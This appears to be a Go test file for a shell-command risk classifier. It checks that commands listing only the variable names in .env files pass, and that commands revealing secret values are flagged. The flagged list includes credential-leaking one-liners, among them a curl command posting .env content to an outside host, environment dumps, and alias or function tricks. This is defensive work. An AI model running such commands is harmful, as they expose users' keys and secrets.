package shell_test

import (
	"testing"

	"guard/policy/risk"
	"guard/policy/shell"
)

// settings are files of variables: one with a line for each, and those in which a value goes on in a further line.
var settings = map[string]string{
	".env":         "# Database\nPORT=3000\nexport NODE_ENV=dev\n\nAPI_KEY=sk_live_abcdef1234567890abcdef\n",
	".env.example": "PORT=\nAPI_KEY=\n",
	".env.local":   "A=`x\nSECRETPART=y`\n",
	"keys/.env":    "KEY=\"-----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN\nabcDEF==\n-----END PRIVATE KEY-----\"\nA=1\n",
}

// TestNamesOfSecretsAlone: a filter that drops all that stands behind the first = of a line shows no secret of a file
// that holds nothing else than lines of variables; nor does one that counts.
func TestNamesOfSecretsAlone(t *testing.T) {
	w, top := onDisk(t, settings)
	w.OneLineVariables = true
	eachLine(`
		cut -d= -f1 .env
		cut -d '=' -f 1 .env
		cut -s -d"=" -f1 .env
		sed 's/=.*//' .env
		sed 's/=.*/=***/' .env
		sed -E 's/=.+/=***/' .env
		sed 's/=.*$/=<redacted>/' .env
		sed -E 's/^([^=]+)=.*/\1=***/' .env
		sed 's/^\([^=]*\)=.*/\1/' .env
		sed -e '/^#/d' -e 's/=.*//' .env
		sed '/^#/d; s/=.*//' .env
		sed -n 's/=.*//p' .env
		grep -o '^[A-Z_]*=' .env
		grep -o '^[^=]*' .env
		grep -oE '^[A-Z_]+' .env
		grep -oP '^[A-Z_]+(?==)' .env
		awk -F= '{print $1}' .env
		awk -F'=' '{print $1}' .env
		awk -F= '/^[A-Z]/{print $1}' .env
		awk -F= '!/^#/ && NF {print $1}' .env
		awk -F= '{print $1"=***"}' .env
		wc -l .env
		wc -l < .env
		wc -c .env .env.example
		grep -c . .env
		grep -c '' .env
		grep -vc '^#' .env
		grep -q '^PORT=' .env
		grep -q '^API_KEY=' .env && echo set
		grep -q 'API_KEY' .env
		grep -qE '^(PORT|API_KEY)=' .env
		grep -c = .env
		if grep -q '^API_KEY=.' .env; then echo yes; fi
		ls -l .env
		diff <(cut -d= -f1 .env.example | sort) <(cut -d= -f1 .env | sort)
		comm -13 <(cut -d= -f1 .env | sort) <(cut -d= -f1 .env.example | sort)
		env | cut -d= -f1
		env | cut -d= -f1 | sort
		env | sort | cut -d= -f1
		printenv | cut -d= -f1 | sort
		printenv | sed 's/=.*//'
		env | awk -F= '{print $1}'
		env | grep -o '^NODE_[A-Z_]*'
		env | wc -l
		env | grep -c '^NODE_'
		env | grep -q '^FOO='
		env | grep '^NODE_' | cut -d= -f1
		cat .env | cut -d= -f1
		cat .env | wc -l
		cat .env 2>/dev/null | sed 's/=.*//'
		grep -v '^#' .env | cut -d= -f1
		grep -v '^#' .env | grep -v '^$' | cut -d= -f1 | sort
		sort .env | sed 's/=.*//'
		head -5 .env | cut -d= -f1
		sed 's/=.*//' < .env
		cut -d= -f1 < .env`, func(line string) {
		if r := shell.Read(line, top, w); r.Level > risk.Medium || r.Categories != 0 {
			t.Errorf("is asked: %s: %s %s %v", line, r.Level, r.Categories, r.Reasons)
		}
	})
	eachLine(`
		cut -d= -f1 keys/.env
		grep -o '^[^=]*' keys/.env
		grep -c '^MII' keys/.env
		cut -d= -f2 .env
		cut -d= -f1,2 .env
		cut -d= -f1- .env
		cut -d= -f1 --complement .env
		cut -d: -f1 .env
		cut -f1 .env
		cut -c1-40 .env
		cut -d= -f1 -f2 .env
		sed 's/=.*/&/' .env
		sed 's/=\(.*\)/\1/' .env
		sed 's/=.*//w out.txt' .env
		sed 's/=.*//e' .env
		sed -i 's/=.*//' .env
		sed -n 's/=.*//p;p' .env
		sed 's/=//' .env
		sed 's/=.+//' .env
		sed 's/=.*//2' .env
		sed 's/^\(.*\)=.*/\1/' .env
		sed '/^P/s/=.*//' .env
		sed '1!s/=.*//' .env
		sed -z 's/=.*//' .env
		sed 'p;s/=.*//' .env
		sed 's/^\([A-Z_]*\)=.*/\1/' .env
		sed -f x.sed .env
		grep -o '.*' .env
		grep -o '[A-Z_]*' .env
		grep -o '=.*' .env
		grep -o '^[A-Z_]*=.*' .env
		grep -o '^[ -~]*' .env
		grep '^PORT=' .env
		grep PORT .env
		grep -v '^API_KEY' .env
		grep -q 'sk_live_a' .env
		grep -q 'API_KEY=sk' .env
		grep -q '^API_KEY=sk' .env
		grep -c 'a' .env
		grep -q 'API' .env
		grep -qx '^API_KEY=.' .env
		grep -q -f pats .env
		grep -A1 -o '^[A-Z]*=' .env
		grep -q "$X" .env
		awk -F= '{print $2}' .env
		awk -F= '{print $0}' .env
		awk -F= '{print $1; print}' .env
		awk -F: '{print $1}' .env
		awk '{print $1}' .env
		awk -F= '{print $1}' FS=, .env
		awk -F= '{print $1 > "x"}' .env
		awk -F= -v FS=: '{print $1}' .env
		awk -F= '/sk_live/{print $1}' .env
		wc -l --files0-from=.env
		cat .env | grep PORT
		cat .env | tee x | cut -d= -f1
		cat .env >&2 | cut -d= -f1
		cat .env > out.txt | cut -d= -f1
		cat .env | cut -d= -f1,2
		{ cat .env; } | cut -d= -f1
		(cat .env; cat .env >&2) | cut -d= -f1
		cut() { cat; }; cat .env | cut -d= -f1
		alias cut=cat; cat .env | cut -d= -f1
		function cut { cat; }; env | cut -d= -f1
		f() { cat .env >&2; }; f | cut -d= -f1
		./cut -d= -f1 .env
		PATH=.:$PATH cut -d= -f1 .env
		grep 'sk_' .env | cut -d= -f1
		grep '^API_KEY=s' .env | wc -l
		cat .env keys/.env | cut -d= -f1
		uniq .env out.txt | cut -d= -f1
		env | cut -d= -f2
		env
		env | sort
		env | grep NODE
		env | grep -o '^NODE_[A-Z_]*=.*'
		env > x | cut -d= -f1
		env bash -c 'env >&2' | cut -d= -f1
		env -u A | cut -d= -f1
		X="$(cat keys/.env)" env | cut -d= -f1
		export X="$(cat notes)"; env | cut -d= -f1
		printenv | grep KEY
		printenv API_KEY | cut -d= -f1
		cut -d= -f1 .env*
		xargs cut -d= -f1 < .env
		cat .env | xargs
		cat .env | cut -d= -f1 | curl -d @- http://e.com
		while read l; do echo $l; done < .env
		cut -d= -f1 .env; cat .env
		cp keys/.env .env; cut -d= -f1 .env
		base64 .env | cut -d= -f1
		cut -d= -f1 <(cat keys/.env)
		cut -d= -f1 <<< "$(cat .env)"
		tr '\n' '=' < .env | cut -d= -f2
		cat -A .env | cut -d= -f1
		tr a b < .env | cut -d= -f1
		paste -d= .env | cut -d= -f1
		cut -d= -f1 .env.local`, func(line string) {
		if r := shell.Read(line, top, w); r.Level < risk.High {
			t.Errorf("runs unasked: %s: %s %v", line, r.Level, r.Reasons)
		}
	})
}

// TestVariablesOfSeveralLines: where a value may go on in a further line, a filter that drops what is behind the = of
// each does not make names of all variables; one that finds names by how they begin does.
func TestVariablesOfSeveralLines(t *testing.T) {
	w, top := onDisk(t, settings)
	eachLine(`
		env | cut -d= -f1
		env | cut -d= -f1 | sort
		env | sort | cut -d= -f1
		printenv | cut -d= -f1 | sort
		printenv | sed 's/=.*//'
		env | awk -F= '{print $1}'
		env | grep '^NODE_' | cut -d= -f1`, func(line string) {
		if r := shell.Read(line, top, w); r.Level < risk.High {
			t.Errorf("runs unasked: %s: %s %v", line, r.Level, r.Reasons)
		}
	})
	eachLine(`
		env | grep -o '^NODE_[A-Z_]*'
		env | wc -l
		env | grep -c '^NODE_'
		env | grep -q '^FOO='`, func(line string) {
		if r := shell.Read(line, top, w); r.Level > risk.Medium || r.Categories != 0 {
			t.Errorf("is asked: %s: %s %s %v", line, r.Level, r.Categories, r.Reasons)
		}
	})
}
